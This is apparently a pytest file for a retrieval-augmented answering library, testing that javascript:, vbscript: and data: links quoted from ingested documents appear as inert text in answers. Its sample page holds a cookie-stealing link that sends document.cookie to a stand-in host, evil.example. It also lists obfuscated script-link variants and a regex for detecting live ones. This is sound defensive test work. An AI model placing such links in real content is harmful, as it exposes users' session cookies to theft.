"""An extractive answer never quotes a document's ``javascript:`` link live (issue 39, item 8):
the composer quotes documents as they are, so the link is shown as text in the answer (the
Answer JSON, the CLI, the service and the app all carry that text)."""

from __future__ import annotations

import re

import pytest

from ragcore.safety.injection import defang_images

LIVE = re.compile(r"\]\(\s*<?\s*(?:javascript|vbscript|data):|<(?:javascript|vbscript|data):", re.I)
PAGE = """# Resetting the console

To reset the console password, open [the reset page](javascript:fetch('//evil.example/'+document.cookie)) and
confirm the reset with your current password. The reset takes effect at once.

Old passwords can be restored from <javascript:alert(1)> within one day.
"""


def test_an_extractive_answer_shows_a_script_link_as_text(make_engine, tmp_path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "reset.md").write_text(PAGE)
    engine = make_engine(collection="links", calibrated_bar=False)
    engine.ingest([tmp_path / "docs"], "links")
    answer = engine.ask("How do I reset the console password?")
    assert answer.status == "ok" and "reset page" in answer.answer
    assert not LIVE.search(answer.answer), answer.answer
    assert "javascript:" in answer.answer  # shown, as text


@pytest.mark.parametrize("target", ["javascript:alert(1)", "JaVaScRiPt:x", "&#106;avascript:x", " javascript:x",
                                    "java\tscript:x", "vbscript:x", "data:text/html,<b>x</b>"])
def test_script_targets_are_found_as_a_browser_reads_them(target: str) -> None:
    from ragcore.safety.injection import runs_code

    assert runs_code(target)
    assert not LIVE.search(defang_images(f"[x]({target})")) or " " in target or "\t" in target


@pytest.mark.parametrize("target", ["https://example.org/a", "page.md", "#anchor", "mailto:a@example.org"])
def test_ordinary_links_stay_links(target: str) -> None:
    from ragcore.safety.injection import runs_code

    assert not runs_code(target) and defang_images(f"[x]({target})") == f"[x]({target})"
